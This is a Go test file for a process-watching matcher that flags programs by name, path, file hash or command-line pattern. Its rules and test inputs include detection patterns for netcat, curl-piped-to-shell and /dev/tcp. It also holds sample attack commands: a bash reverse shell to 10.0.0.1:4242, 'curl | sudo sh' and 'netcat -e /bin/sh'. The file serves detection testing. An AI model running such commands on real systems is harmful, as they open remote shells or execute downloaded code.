package procwatch

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// fakeSystem makes a PATH directory holding "netcat", a symlink to real/nc.openbsd,
// and "other", a different program. It returns the PATH and the real nc path.
func fakeSystem(t *testing.T) (bin []string, realNC string) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"bin", "real"} {
		if err := os.Mkdir(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	realNC = filepath.Join(root, "real", "nc.openbsd")
	write := func(p, content string) {
		if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(realNC, "netcat's code")
	write(filepath.Join(root, "bin", "other"), "other code")
	write(filepath.Join(root, "bin", "notexec"), "data")
	if err := os.Chmod(filepath.Join(root, "bin", "notexec"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(realNC, filepath.Join(root, "bin", "netcat")); err != nil {
		t.Fatal(err)
	}
	return []string{filepath.Join(root, "nowhere"), filepath.Join(root, "bin")}, realNC
}

func TestMatcher(t *testing.T) {
	path, realNC := fakeSystem(t)
	bin := path[1]
	ncSum, err := hashPath(realNC)
	if err != nil {
		t.Fatal(err)
	}
	otherSum, err := hashPath(filepath.Join(bin, "other"))
	if err != nil {
		t.Fatal(err)
	}
	m, err := newMatcher([]Rule{
		{Name: "by-name", Names: []string{"netcat", "averyveryverylongname"}},
		{Name: "by-path", Paths: []string{filepath.Join(bin, "netcat")}},
		{Name: "by-content", Names: []string{"netcat"}, MatchContent: true},
		{Name: "by-glob", Cmdline: []string{"curl * | *sh", "*/dev/tcp/*"}},
		{Name: "by-regex", CmdlineRegex: []*regexp.Regexp{regexp.MustCompile(`\bbase64 -d\b`)}},
	}, path)
	if err != nil {
		t.Fatalf("newMatcher: %v", err)
	}
	if !m.hashing {
		t.Fatal("hashing is off although a rule matches by content")
	}
	tests := []struct {
		name string
		x    execInfo
		want []string
	}{
		{name: "file name through PATH", x: execInfo{Filename: filepath.Join(bin, "netcat"), FilenameReal: realNC, Exe: realNC, Comm: "netcat"}, want: []string{"by-name", "by-path", "by-content"}},
		{name: "base name anywhere", x: execInfo{Filename: "/tmp/netcat", Exe: "/tmp/netcat", Comm: "netcat"}, want: []string{"by-name", "by-content"}},
		{name: "resolved executable only", x: execInfo{Exe: realNC, Comm: "nc.openbsd"}, want: []string{"by-name", "by-path", "by-content"}},
		{name: "deleted executable", x: execInfo{Exe: realNC + " (deleted)"}, want: []string{"by-name", "by-path", "by-content"}},
		{name: "symlink elsewhere to it", x: execInfo{Filename: "/tmp/y", FilenameReal: realNC, Exe: realNC}, want: []string{"by-name", "by-path", "by-content"}},
		{name: "comm when file name unknown", x: execInfo{Comm: "netcat"}, want: []string{"by-name", "by-content"}},
		{name: "comm cut to 15 bytes", x: execInfo{Comm: "averyveryverylo"}, want: []string{"by-name"}},
		{name: "comm ignored when file name known", x: execInfo{Filename: "/tmp/x", Exe: "/tmp/x", Comm: "netcat"}},
		{name: "renamed copy by content", x: execInfo{Filename: "/tmp/x", Exe: "/tmp/x", Comm: "x", SHA256: ncSum}, want: []string{"by-content"}},
		{name: "other content", x: execInfo{Filename: "/tmp/x", Exe: "/tmp/x", SHA256: otherSum}},
		{name: "other program", x: execInfo{Filename: filepath.Join(bin, "other"), Exe: filepath.Join(bin, "other"), Comm: "other", Cmdline: "other", HaveCmdline: true}},
		{name: "glob with spaces and slashes", x: execInfo{Cmdline: "curl -s http://x/y | sudo sh", HaveCmdline: true}, want: []string{"by-glob"}},
		{name: "second glob", x: execInfo{Cmdline: "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", HaveCmdline: true}, want: []string{"by-glob"}},
		{name: "glob is anchored", x: execInfo{Cmdline: "xcurl a | sh", HaveCmdline: true}},
		{name: "regex", x: execInfo{Cmdline: "sh -c echo eA== | base64 -d", HaveCmdline: true}, want: []string{"by-regex"}},
		{name: "unknown cmdline matches no pattern", x: execInfo{Cmdline: "curl a | sh", HaveCmdline: false}},
		{name: "several rules", x: execInfo{Filename: "/tmp/netcat", Cmdline: "netcat -e /bin/sh x | base64 -d", HaveCmdline: true, SHA256: ncSum}, want: []string{"by-name", "by-content", "by-regex"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, r := range m.match(&tt.x) {
				got = append(got, r.name)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("match(%+v) = %v, want %v", tt.x, got, tt.want)
			}
		})
	}
}

func TestMatcherWithoutContent(t *testing.T) {
	path, realNC := fakeSystem(t)
	m, err := newMatcher([]Rule{{Name: "by-name", Names: []string{"netcat"}}}, path)
	if err != nil {
		t.Fatal(err)
	}
	sum, err := hashPath(realNC)
	if err != nil {
		t.Fatal(err)
	}
	if m.hashing {
		t.Error("hashing is on with no content rule")
	}
	if got := m.match(&execInfo{Filename: "/tmp/x", Exe: "/tmp/x", SHA256: sum}); len(got) != 0 {
		t.Errorf("a renamed copy matched %d rules without MatchContent", len(got))
	}
}

func TestMatcherValidation(t *testing.T) {
	path, _ := fakeSystem(t)
	tests := []struct {
		name  string
		rules []Rule
		want  []string
	}{
		{name: "no rules", want: []string{"no process rules"}},
		{name: "no name", rules: []Rule{{Names: []string{"nc"}}}, want: []string{"process rule 0: name is required"}},
		{name: "no criterion", rules: []Rule{{Name: "r"}}, want: []string{`process rule "r": at least one of`}},
		{name: "bad names and paths", rules: []Rule{{Name: "r", Names: []string{"", "bin/nc"}, Paths: []string{"nc"}}}, want: []string{
			`name "" is not a program name`, `name "bin/nc" is not a program name`, `path "nc" is not absolute`,
		}},
		{name: "nil regex", rules: []Rule{{Name: "r", CmdlineRegex: []*regexp.Regexp{nil}}}, want: []string{"cmdline_regex 0 is nil"}},
		{name: "content of nothing", rules: []Rule{{Name: "r", Cmdline: []string{"*"}, MatchContent: true}}, want: []string{"match_content needs names or paths"}},
		{name: "content of missing programs", rules: []Rule{{Name: "r", Names: []string{"notexec", "absent"}, MatchContent: true}}, want: []string{"none of its names or paths leads to an executable"}},
		{name: "every problem at once", rules: []Rule{{Name: "a"}, {Name: "b", Paths: []string{"x"}}}, want: []string{`"a": at least one`, `"b": path "x"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := newMatcher(tt.rules, path)
			if err == nil {
				t.Fatal("newMatcher accepted the rules")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
		})
	}
}
